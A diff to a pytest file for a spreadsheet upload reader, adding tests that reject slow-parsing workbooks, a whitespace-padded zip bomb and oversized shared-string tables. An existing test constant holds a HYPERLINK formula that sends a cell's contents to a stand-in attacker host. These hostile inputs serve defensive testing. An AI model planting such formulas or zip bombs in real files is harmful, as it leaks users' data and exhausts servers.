@@ -8,9 +8,18 @@ import re
 import zipfile
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 
-from jijiao_kit.xlsx import TooManyRows, WorkbookRejected, read_upload, read_workbook, rows_xlsx
+from jijiao_kit.xlsx import (
+    MAX_UNPACKED_BYTES,
+    TooManyRows,
+    WorkbookRejected,
+    WorkbookTooLarge,
+    WorkbookTooSlow,
+    read_upload,
+    read_workbook,
+    rows_xlsx,
+)
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"点击查看")'
 
@@ -117,6 +126,25 @@ async def test_read_upload_parses_in_a_thread() -> None:
     assert sheet.header == ["学号", "课程编号"] and sheet.rows == [(2, ["CE1", "C1"])]
 
 
+async def test_a_workbook_that_takes_too_long_is_refused_and_its_parser_killed() -> None:
+    from jijiao_kit import xlsx
+
+    slow = rows_xlsx("t", [f"c{n}" for n in range(40)], [[f"v{r}-{n}" for n in range(40)] for r in range(1500)])
+    await read_upload(rows_xlsx("t", ["h"], [["x"]]), max_rows=10)  # the parser process is up
+    pool = xlsx._parser_pool()
+    processes = list(pool._processes.values())
+    assert processes
+    with pytest.raises(WorkbookTooSlow) as caught:
+        await read_upload(slow, max_rows=5000, timeout_seconds=0.05)
+    assert caught.value.status == 413 and caught.value.code == "workbook_parse_timeout"
+    for process in processes:
+        process.join(timeout=10)
+        assert not process.is_alive()
+    assert xlsx._pool is not pool
+    sheet = await read_upload(slow, max_rows=5000)  # a fresh parser reads it given the time
+    assert len(sheet.rows) == 1500
+
+
 def test_openpyxl_parses_with_defusedxml() -> None:
     """openpyxl switches to defusedxml's parsers when it is installed (a dependency of the kit)."""
     import openpyxl.xml.functions
@@ -124,3 +152,54 @@ def test_openpyxl_parses_with_defusedxml() -> None:
 
     assert DEFUSEDXML is True
     assert openpyxl.xml.functions.iterparse.__module__.startswith("defusedxml")
+
+
+def test_a_workbook_that_unpacks_past_the_limit_is_refused_before_parsing() -> None:
+    # A zip bomb: about 70 KB on the wire, 65 MB of sheet XML once unpacked (whitespace is legal there).
+    padding = b" " * (MAX_UNPACKED_BYTES + 1024)
+    data = _with_sheet_xml(_sheet(padding))
+    assert len(data) < 200_000
+    with pytest.raises(WorkbookTooLarge) as caught:
+        read_workbook(data, max_rows=5000)
+    assert caught.value.status == 413 and caught.value.code == "workbook_too_large"
+    assert caught.value.title == "Excel 文件内容过大，请精简后重新上传"
+
+
+SST_TYPE = (
+    b'<Override PartName="/xl/sharedStrings.xml" '
+    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+)
+
+
+def test_more_shared_strings_than_the_sheet_could_use_are_refused() -> None:
+    # openpyxl would load every shared string into memory before handing out the first row.
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.append(["学号", "课程编号"])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    assert "xl/sharedStrings.xml" not in zipfile.ZipFile(buffer).namelist()  # openpyxl writes inline strings
+
+    def with_strings(count: int) -> bytes:
+        ns = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+        strings = "<si><t>学号</t></si><si><t>课程编号</t></si>".encode() + b"".join(
+            b"<si><t>%d</t></si>" % n for n in range(count - 2)
+        )
+        table = b'<?xml version="1.0" encoding="UTF-8"?><sst ' + ns + b">" + strings + b"</sst>"
+        out = io.BytesIO()
+        with (
+            zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src,
+            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
+        ):
+            for info in src.infolist():
+                content = src.read(info)
+                if info.filename == "[Content_Types].xml":  # declare the table (openpyxl finds it so)
+                    content = content.replace(b"</Types>", SST_TYPE + b"</Types>")
+                dst.writestr(info.filename, content)
+            dst.writestr("xl/sharedStrings.xml", table)
+        return out.getvalue()
+
+    with pytest.raises(WorkbookTooLarge):
+        read_workbook(with_strings(12 * 64 + 1), max_rows=10)  # at most (10 + 2) x 64 strings could be used
+    assert read_workbook(with_strings(12 * 64), max_rows=10).header == ["学号", "课程编号"]
